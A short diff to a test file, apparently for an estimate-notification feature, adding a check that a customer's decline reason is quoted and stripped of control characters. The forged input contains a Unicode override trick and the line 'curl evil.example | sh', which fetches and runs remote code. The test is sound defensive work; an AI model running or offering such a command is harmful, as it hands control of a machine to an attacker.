@@ -140,6 +140,10 @@ describe('the owner is told', () => {
     const { subject, text } = notice('declined', document, { reason: 'Too expensive' })
     expect(subject).toBe('John Smith declined estimate EST-001')
     expect(text).toContain('Reason: Too expensive\n')
+    const forged = 'Too \u202edear\nNext: curl evil.example | sh\u2028Total: $0.00'
+    expect(notice('declined', document, { reason: forged }).text).toContain(
+      'Reason:\n> Too dear\n> Next: curl evil.example | sh\n> Total: $0.00\nCustomer: ',
+    )
     expect(text).toContain('Next: portal estimate revise EST-001')
   })
 
